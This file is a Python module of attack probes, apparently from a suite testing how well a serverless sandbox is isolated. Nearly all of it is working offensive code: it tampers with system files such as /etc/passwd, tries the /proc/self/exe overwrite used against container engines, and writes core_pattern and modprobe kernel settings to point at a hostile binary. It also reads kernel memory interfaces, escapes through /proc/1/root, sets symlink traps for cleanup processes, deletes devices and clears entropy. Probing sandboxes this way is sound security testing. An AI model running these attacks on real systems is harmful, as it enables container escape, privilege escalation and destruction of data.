"""Attacks on files: of the code, of the system, of the kernel, of the host."""

import contextlib
import errno
import fcntl
import itertools
import os
import socket

from attempts import attempt

PLACES = (
    "/var/task", "/var/runtime", "/var/lang", "/opt", "/usr", "/usr/bin", "/usr/lib", "/etc",
    "/etc/ssl", "/var", "/bin", "/dev", "/proc", "/", "/home/sbx_user1051", "/mnt",
)  # fmt: skip
FILES = ("/var/task/app.py", "/var/runtime/bootstrap.py", "/usr/bin/env", "/etc/passwd",
         "/etc/hosts", "/etc/resolv.conf", "/etc/ld.so.cache", "/usr/bin/su")  # fmt: skip


def change():
    """Every way to change a file or a directory that belongs to another user."""
    done = []

    def note(name, act, *arguments):
        if attempt(act, *arguments) == "done":
            done.append([name, *map(str, arguments)])

    for place in PLACES:
        note("create", os.open, place + "/hostile", os.O_CREAT | os.O_RDWR)
        note("nameless", os.open, place, os.O_TMPFILE | os.O_RDWR)
        note("directory", os.mkdir, place + "/hostile")
        note("link", os.symlink, "/tmp", place + "/hostile")
        note("mode", os.chmod, place, 0o777)
        note("remove", os.rmdir, place)
        note("rename", os.rename, place, place + "-hostile")
    with open("/tmp/ours", "w") as file:
        file.write("hostile")
    for path in FILES:
        for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_APPEND, os.O_WRONLY | os.O_TRUNC):
            note("open", os.open, path, flags)
        note("truncate", os.truncate, path, 0)
        note("remove", os.unlink, path)
        note("replace", os.rename, "/tmp/ours", path)
        note("mode", os.chmod, path, 0o777)
        note("owner", os.chown, path, 993, 993)
        note("time", os.utime, path, (0, 0))
        note("second name", os.link, path, "/tmp/second" + path.replace("/", "-"))
        note("attribute", os.setxattr, path, "user.hostile", b"x")
    return done


def overwrite_programs():
    """Running programs, through `/proc`: how container engines were once taken over."""
    outcomes = []
    for pid in ("self", "1", "thread-self"):
        for flags in (os.O_RDWR, os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
            outcomes.append(attempt(os.open, f"/proc/{pid}/exe", flags))
        with contextlib.suppress(OSError):
            opened = os.open(f"/proc/{pid}/exe", os.O_PATH)
            outcomes.append(attempt(os.open, f"/proc/self/fd/{opened}", os.O_RDWR))
    return outcomes


def write_settings():
    """The kernel's settings: which could be opened for writing, and what was written."""
    opened = []
    for directory, _, names in os.walk("/proc/sys"):
        for name in names:
            path = os.path.join(directory, name)
            with contextlib.suppress(OSError):
                os.close(os.open(path, os.O_WRONLY))
                opened.append(path)
    written = []
    for name, value in (
        ("core_pattern", "|/tmp/hostile"),
        ("modprobe", "/tmp/hostile"),
        ("hostname", "hostile"),
        ("sysrq", "511"),
        ("ns_last_pid", "100"),
    ):
        written.append(attempt(write, "/proc/sys/kernel/" + name, value))
    return [opened, written]


def read(path):
    with open(path) as file:
        return file.read()


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


def kernel_files():
    """Interfaces to the kernel's memory: what could be read."""
    attempt(write, "/proc/sysrq-trigger", "h")
    found = {}
    for path in (
        "/proc/kcore", "/proc/kmsg", "/proc/keys", "/proc/key-users", "/proc/kpageflags",
        "/proc/kpagecount", "/proc/timer_list", "/proc/vmallocinfo", "/proc/slabinfo",
        "/proc/sysrq-trigger", "/proc/cmdline", "/proc/self/pagemap", "/proc/acpi",
        "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/vda",
        "/dev/loop0", "/dev/loop-control", "/dev/net/tun", "/dev/vhost-vsock", "/dev/shm",
        "/dev/mqueue", "/sys/kernel", "/sys/fs/cgroup", "/sys/class", "/sys/firmware",
        "/dev/ptmx", "/dev/pts", "/dev/console", "/dev/input", "/dev/snd", "/dev/dri",
    ):  # fmt: skip
        try:
            with open(path, "rb") as file:
                found[path] = file.read(64).hex().strip("0")
        except OSError as error:
            found[path] = errno.errorcode[error.errno]
    with open("/proc/kallsyms") as file:
        found["kallsyms"] = max(line.split()[0] for line in itertools.islice(file, 1000))
    return found


def walk_out(targets):
    """Paths and links that should lead to the host: what could be read or listed."""
    found = []
    roots = ("", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../..", "/..", "/proc/1/cwd",
             "/tmp/../..", "/var/task/../..", "/proc/self/task/1/root")  # fmt: skip
    for number, target in enumerate(targets):
        with contextlib.suppress(FileExistsError):
            os.symlink(target, f"/tmp/link-{number}")
        for path in (*(root + target for root in roots), f"/tmp/link-{number}"):
            try:
                found.append(os.listdir(path) if os.path.isdir(path) else read(path))
            except OSError:
                pass
            attempt(write, path, "overwritten")
            attempt(os.unlink, path) if path != f"/tmp/link-{number}" else None
    return found


def lay_traps(targets):
    """Names in /tmp that would mislead a cleanup process; then hang."""
    for number, target in enumerate(targets):
        with contextlib.suppress(OSError):
            os.symlink(target, f"/tmp/trap-{number}")
    with contextlib.suppress(OSError):
        os.rmdir("/tmp/lost+found")
        os.symlink(targets[0], "/tmp/lost+found")
    os.chmod("/tmp", 0) if attempt(os.chmod, "/tmp", 0o777) == "done" else None
    os.mkfifo("/tmp/fifo")
    os.makedirs("/tmp/" + "/".join(["deep"] * 500), exist_ok=True)
    open("/tmp/\n\x1b[31m\udcff", "w").close()
    while True:
        attempt(os.open, "/tmp/fifo", os.O_RDONLY)


def connect_to(paths):
    """Sockets that are files."""
    return [attempt(socket.socket(socket.AF_UNIX).connect, path) for path in paths]


def change_devices():
    """The few devices there are."""
    outcomes = []
    for name in ("null", "zero", "full", "random", "urandom", "tty"):
        outcomes.append(attempt(os.chmod, "/dev/" + name, 0))
        outcomes.append(attempt(os.unlink, "/dev/" + name))
    device = os.open("/dev/random", os.O_WRONLY)
    # Credit entropy, and clear all of it.
    for request in (0x40045201, 0x5204, 0x5206, 0x5207):
        outcomes.append(attempt(fcntl.ioctl, device, request, 1))
    return outcomes
